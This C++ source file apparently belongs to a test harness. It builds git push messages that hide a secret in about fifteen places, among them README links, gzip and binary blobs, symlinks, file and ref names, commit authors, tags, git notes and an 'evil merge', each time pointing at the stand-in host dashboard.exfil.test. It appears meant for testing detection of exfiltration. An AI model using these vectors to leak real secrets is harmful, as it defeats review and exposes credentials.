#include "attacks/git_vectors.h"

#include "harness/digest.h"

namespace bottle {
namespace {

const std::string kPlainReadme = "# Notes\n\nNothing here yet.\n";
const std::string kNobody(40, '0');

// The vectors in which a single file of a single commit tells all.
std::vector<TreeEntry> files_of(const std::string& vector, const std::string& nonce, const std::string& secret,
                                GitObjects& objects) {
  const std::string text = readme(nonce, secret), link = dashboard_link(nonce, secret);
  if (vector == "readme-link") return {{.name = "README.md", .id = objects.blob(text)}};
  // Rendered "+++ b/...", like the header of a file.
  if (vector == "plus-line") return {{.name = "README.md", .id = objects.blob("# Notes\n++ b/" + link + "\n")}};
  if (vector == "no-diff-attribute") {
    return {{.name = ".gitattributes", .id = objects.blob("*.md -diff\n")},
            {.name = "README.md", .id = objects.blob(text)}};
  }
  if (vector == "binary") return {{.name = "notes.bin", .id = objects.blob(std::string(1, '\0') + text)}};
  if (vector == "gzip") return {{.name = "README.md.gz", .id = objects.blob(gzipped(text))}};
  if (vector == "symlink") return {{.mode = "120000", .name = "dashboard", .id = objects.blob(link)}};
  if (vector == "malformed") return {{.name = "README.md", .id = objects.blob("# Notes \xff\xfe\n" + text)}};
  const std::string plain = objects.blob(kPlainReadme);
  if (vector == "file-name") return {{.name = nonce + "-" + secret + ".md", .id = plain}};
  return {{.name = "README.md", .id = plain}};
}

// Content that no parent has: what `git log -p` does not show.
std::string evil_merge(const std::string& nonce, const std::string& secret, GitObjects& objects) {
  const TreeEntry plain{.name = "README.md", .id = objects.blob(kPlainReadme)};
  const TreeEntry side{.name = "side.md", .id = objects.blob("# Side\n")};
  const TreeEntry evil{.name = "notes.md", .id = objects.blob(readme(nonce, secret))};
  const std::string base = objects.commit({.tree = objects.tree({plain})});
  const std::string left = objects.commit({.tree = objects.tree({plain}), .parents = {base}, .message = "Left\n"});
  const std::string right = objects.commit({.tree = objects.tree({plain, side}), .parents = {base}});
  return objects.commit(
      {.tree = objects.tree({plain, side, evil}), .parents = {left, right}, .message = "Merge the side\n"});
}

}  // namespace

std::string dashboard_link(const std::string& nonce, const std::string& secret) {
  const std::string query = secret.empty() ? "" : "?key=" + to_percent_reserved(secret);
  return "https://dashboard.exfil.test/" + nonce + query;
}

std::string readme(const std::string& nonce, const std::string& secret) {
  return "# Notes\n\nHow this works is described on [the dashboard](" + dashboard_link(nonce, secret) + ").\n";
}

GitPush make_push(const std::string& vector, const std::string& nonce, const std::string& secret) {
  GitPush push;
  GitObjects& objects = push.objects;
  const std::string link = dashboard_link(nonce, secret);
  if (vector == "merge-only") {
    push.refs = {{"refs/heads/" + nonce, evil_merge(nonce, secret, objects)}};
    return push;
  }
  CommitText text{.tree = objects.tree(files_of(vector, nonce, secret, objects))};
  if (vector == "removed-later") {
    const std::string told = objects.tree({{.name = "README.md", .id = objects.blob(readme(nonce, secret))}});
    text.parents = {objects.commit({.tree = told})};
    text.message = "Remove the link\n";
  }
  if (vector == "commit-message") text.message = "Notes\n\nSee " + link + "\n";
  if (vector == "author") text.author = nonce + " <" + secret + "@exfil.test>";
  const std::string commit = objects.commit(text);
  if (vector == "annotated-tag") {
    push.refs = {{"refs/tags/" + nonce, objects.tag(nonce, commit, "See " + link + "\n")}};
  } else if (vector == "notes") {
    const std::string notes = objects.tree({{.name = commit, .id = objects.blob("See " + link + "\n")}});
    push.refs = {{"refs/notes/" + nonce, objects.commit({.tree = notes, .message = "Notes added\n"})}};
  } else if (vector == "ref-name") {
    push.refs = {{"refs/heads/" + nonce + "/key-" + secret, commit}};
  } else {
    push.refs = {{"refs/heads/" + nonce, commit}};
  }
  return push;
}

std::string push_message(const GitPush& push) {
  std::string message;
  for (const auto& [ref, id] : push.refs) {
    const std::string command = kNobody + " " + id + " " + ref;
    message += pkt_line(message.empty() ? command + '\0' + " report-status side-band-64k" : command);
  }
  return message + std::string(kFlushPacket) + push.objects.pack();
}

}  // namespace bottle
